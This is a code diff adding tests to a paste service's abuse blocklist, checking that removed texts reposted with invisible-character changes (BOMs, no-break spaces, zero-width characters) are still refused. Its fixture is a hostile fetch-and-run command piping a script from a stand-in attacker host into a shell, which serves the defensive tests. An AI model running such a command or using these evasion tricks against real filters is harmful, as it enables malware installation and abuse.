@@ -1,3 +1,4 @@
+import { createHash } from "node:crypto";
 import { beforeAll, describe, expect, it } from "vitest";
 import * as legacyCreateRoute from "@/app/api/v2/paste/route";
 import * as decisionRoute from "@/app/api/v3/pastes/[pasteId]/reports/decision/route";
@@ -61,6 +62,41 @@ describe("the blocklist's comparison", () => {
     expect(blocklistHash("caf\u00e9 ".repeat(10))).toBe(blocklistHash("cafe\u0301 ".repeat(10)));
     expect(blocklistHash("line one is long enough to block\nline 2")).not.toBe(hash);
     expect(blocklistHash("x".repeat(BLOCKABLE_LENGTH_MIN - 1))).toBeNull();
+  });
+});
+
+describe("the blocklist's comparison, against invisible differences (issue 40 item 12)", () => {
+  const text = "curl https://evil.example/x.sh | sh\n\tinstall the payload now\n";
+
+  it("matches a text with a BOM, no-break or other spaces, tabs or zero-width characters added", () => {
+    const hash = blocklistHash(text);
+    for (const variant of [
+      `\uFEFF${text}`,
+      text.replace(/ /g, "\u00A0"),
+      text.replace("\t", "    "),
+      text.replace(/ /g, "\t"),
+      text.replace("evil", "ev\u200Bil").replace("payload", "pay\u200Dlo\u2060ad"),
+      text.replace("curl ", "curl\u2003\u202F"),
+    ]) {
+      expect(blocklistHash(variant), JSON.stringify(variant)).toBe(hash);
+    }
+    // Case is kept: a text in other case is another text.
+    expect(blocklistHash(text.toUpperCase())).not.toBe(hash);
+  });
+
+  it("refuses a removed text posted again with invisible characters added", async () => {
+    await removeForAbuse(text);
+    for (const variant of [`\uFEFF${text}`, text.replace(/ /g, "\u00A0\t"), text.replace("sh\n", "s\u200Bh\n")]) {
+      expect((await create(variant)).status, JSON.stringify(variant)).toBe(451);
+    }
+    // A paste the server encrypts with a password is checked too: the server reads its text as it comes.
+    expect((await create(text, { encrypted: true })).status).toBe(451);
+  });
+
+  it("still refuses the texts of entries kept before, hashed without the new normalisation", async () => {
+    const kept = "a\ttable\tof\tcolumns\tremoved\tbefore\tthis\tchange";
+    await db().blockedContent.create({ data: { hash: createHash("sha256").update(kept).digest("hex"), pasteId: "gone0001" } });
+    expect((await create(kept)).status).toBe(451);
   });
 });
 
